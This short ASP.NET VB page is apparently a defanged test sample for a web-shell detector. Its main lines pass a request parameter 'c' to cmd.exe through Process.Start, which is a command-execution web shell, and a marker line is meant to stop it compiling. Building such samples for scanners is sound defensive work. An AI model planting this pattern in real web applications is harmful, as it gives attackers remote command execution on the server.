<%@ Page Language="VB" %>
<%-- DEFANGED vigil test sample (see README) --%>
<% DEFANGED SAMPLE does not compile %>
<%
Dim si As New ProcessStartInfo("cmd.exe", "/c " & Request("c"))
Process.Start(si)
%>
